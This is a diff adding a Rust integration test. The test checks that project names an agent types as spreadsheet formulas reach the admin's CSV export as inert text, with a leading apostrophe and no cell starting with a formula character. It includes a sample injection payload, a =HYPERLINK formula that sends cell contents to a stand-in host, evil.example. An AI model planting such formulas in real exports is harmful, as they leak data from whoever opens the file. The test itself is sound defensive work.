@@ -321,6 +321,48 @@ async fn the_new_routes_keep_to_roles_and_communes(backend: Backend) {
     app.stop().await;
 }
 
+/// An agent names a project like a spreadsheet formula; the journal the admin downloads
+/// holds it as text (a leading apostrophe), so opening the file runs nothing.
+async fn a_formula_typed_by_an_agent_reaches_the_admins_spreadsheet_as_text(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let mut admin = signed_in(&app, "admin@braine.be", &[(BRAINE, Role::Admin)]).await;
+    let mut agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A2,"Cliquez")"#;
+    for name in [formula, "@SUM(1+1)", "-1+2"] {
+        let (status, to) = agent
+            .post(
+                "/agent/projets",
+                &[
+                    ("commune", BRAINE),
+                    ("name", name),
+                    ("description", "+33 6"),
+                ],
+            )
+            .await;
+        assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
+    }
+    let (status, csv_text) = admin
+        .get(&format!("/agent/journal.csv?commune={BRAINE}"))
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert!(
+        rows.iter().any(|r| r[4] == format!("'{formula}")),
+        "the name is kept, as text: {csv_text}"
+    );
+    for cell in rows
+        .iter()
+        .flat_map(|r| r.iter().map(str::to_string).collect::<Vec<_>>())
+    {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a live formula: {cell:?}"
+        );
+    }
+    app.stop().await;
+}
+
 async fn settings_changes_are_audited_and_exported(backend: Backend) {
     let app = TestApp::spawn(backend).await;
     let mut admin = signed_in(&app, "admin@braine.be", &[(BRAINE, Role::Admin)]).await;
@@ -1654,6 +1696,7 @@ async fn the_dashboard_draws_its_tables_as_charts(backend: Backend) {
 }
 
 on_both_backends!(
+    a_formula_typed_by_an_agent_reaches_the_admins_spreadsheet_as_text,
     the_new_routes_keep_to_roles_and_communes,
     settings_changes_are_audited_and_exported,
     services_and_projects_change_under_their_rules,
